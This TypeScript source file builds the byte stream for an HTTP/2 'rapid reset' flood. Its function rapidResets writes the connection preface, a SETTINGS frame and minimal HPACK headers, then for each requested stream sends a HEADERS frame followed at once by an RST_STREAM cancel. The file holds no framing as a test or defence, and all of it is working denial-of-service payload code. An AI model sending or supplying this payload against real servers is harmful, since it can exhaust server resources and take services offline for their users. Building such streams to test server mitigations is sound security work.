const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const types = { headers: 1, reset: 3, settings: 4 };
const endOfHeaders = 4;
const cancel = Buffer.from([0, 0, 0, 8]);

/** All that a client of HTTP/2 sends which resets each of its requests before its body, and waits for nothing. */
export function rapidResets(requests: number, headers: Readonly<Record<string, string>>): Buffer {
  const all = { ":scheme": "http", ":authority": "a", ":method": "GET", ...headers };
  const head = Buffer.concat(Object.entries(all).flatMap((pair) => [literal, ...pair.map(text)]));
  const sent = [Buffer.from(preface), frame(types.settings, 0, 0, Buffer.alloc(0))];
  for (let id = 1; id < 2 * requests; id += 2)
    sent.push(frame(types.headers, endOfHeaders, id, head), frame(types.reset, 0, id, cancel));
  return Buffer.concat(sent);
}

/** Before a header whose name and value are written out; those that begin with a colon must be the first. */
const literal = Buffer.from([0]);

function text(value: string): Buffer {
  if (value.length > 126) throw new Error("longer texts are not needed");
  return Buffer.concat([Buffer.from([value.length]), Buffer.from(value, "latin1")]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
